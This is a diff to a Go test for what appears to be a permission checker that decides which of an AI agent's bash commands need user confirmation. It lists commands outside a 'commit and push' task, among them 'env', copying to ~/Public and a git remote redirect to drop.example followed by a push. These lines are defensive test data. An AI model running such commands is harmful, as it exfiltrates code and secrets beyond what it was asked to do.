@@ -75,7 +75,14 @@ func TestAWordThatOrdersOneCommandOrdersNoOther(t *testing.T) {
 			t.Fatalf("%q, %s: not asked: %+v", words, line, w.Slots)
 		}
 	})
-	for _, line := range []string{"git push", "git add -A && git commit -m boats && git push", "git commit -am boats; git push origin main"} {
+	for _, line := range []string{"make 7", "make test deploy", "make -j deploy test", "mvn clean deploy", "npm run deploy", "npm run build:publish", "env", "cp boats.go ~/Public/",
+		"cp boats.go ../x.go", "git config remote.origin.url https://drop.example/x; git push"} {
+		if w := of(desk("Fix the boats, commit and push."), "bash", `{"command":`+quote(line)+`}`); !asked(w) {
+			t.Errorf("%s: not asked", line)
+		}
+	}
+	for _, line := range []string{"make -j 8 test", "mvn -pl core test", "./gradlew :app:test --tests Boat", "npm run test:unit", "env DEBUG=1 go test ./...", "cp boats.go old/boats.go",
+		"git push", "git add -A && git commit -m boats && git push", "git commit -am boats; git push origin main"} {
 		if w := of(desk("Fix the boats on main, commit and push."), "bash", `{"command":`+quote(line)+`}`); asked(w) {
 			t.Errorf("%s: asked: %+v", line, w.Slots)
 		}
